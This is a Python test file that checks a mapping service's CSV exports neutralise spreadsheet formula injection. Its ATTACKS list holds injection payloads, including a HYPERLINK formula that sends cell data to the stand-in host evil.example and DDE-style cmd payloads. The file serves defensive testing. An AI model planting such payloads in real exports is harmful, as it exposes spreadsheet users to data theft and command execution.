"""CSV formula injection (issue 18, item 6): no CSV the service writes starts a cell with a
formula prefix, and every CSV writer of the package goes through `maps.formatting.csv_row`."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import shapely

from maps import export
from maps.follow_up_csv import follow_up_csv
from maps.formatting import CSV_FORMULA_PREFIXES
from maps.layers import Field, Layer

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_layer_csv_neutralises_every_formula_prefix(tmp_path: Path) -> None:
    fields = (Field("beskrivning", "str", "Beskrivning"), Field("antal", "int", "Antal"))
    rows = [
        {"beskrivning": text, "antal": -3, "geometry": shapely.Point(-0.5, 59.2)}
        for text in ATTACKS
    ]
    path = tmp_path / "x.csv"
    export.write_csv(Layer("avvikelser", "Avvikelser", "Point", fields, rows), path)
    with open(path, encoding="utf-8", newline="") as fh:
        read = list(csv.DictReader(fh))
    assert [r["beskrivning"] for r in read] == ["'" + t for t in ATTACKS]
    # Numbers stay numbers: a negative count or longitude is not text.
    assert {r["antal"] for r in read} == {"-3"} and {r["lon"] for r in read} == {"-0.500000"}


def test_the_follow_up_csv_neutralises_names() -> None:
    result = {
        "by": "organisation",
        "rows": [
            {
                "organisation": {"id": 7, "name": ATTACKS[0]},
                "walks_approved": 1,
                "walks_reported": 1,
                "cost_sek": -1700,  # a reversal
                "walker_nights": 2,
                "youths_met": 0,
                "flags": [],
            }
        ],
        "totals": {
            "walks_approved": 1,
            "walks_reported": 1,
            "cost_sek": -1700,
            "walker_nights": 2,
            "youths_met": 0,
        },
    }
    rows = list(csv.reader(io.StringIO(follow_up_csv(result))))
    assert rows[1][1] == "'" + ATTACKS[0] and rows[1][4] == "-1700"
    cells = [c for row in rows for c in row if c and not c.lstrip("-").isdigit()]
    assert not [c for c in cells if c.startswith(CSV_FORMULA_PREFIXES)]


def test_every_csv_writer_uses_csv_row() -> None:
    writers = []
    for package in ("api", "geo", "maps", "routes"):
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text or ".to_csv(" in text:
                writers.append(path.relative_to(ROOT).as_posix())
                assert "csv_row(" in text and "DictWriter" not in text, path
    assert sorted(writers) == ["maps/export.py", "maps/follow_up_csv.py"]
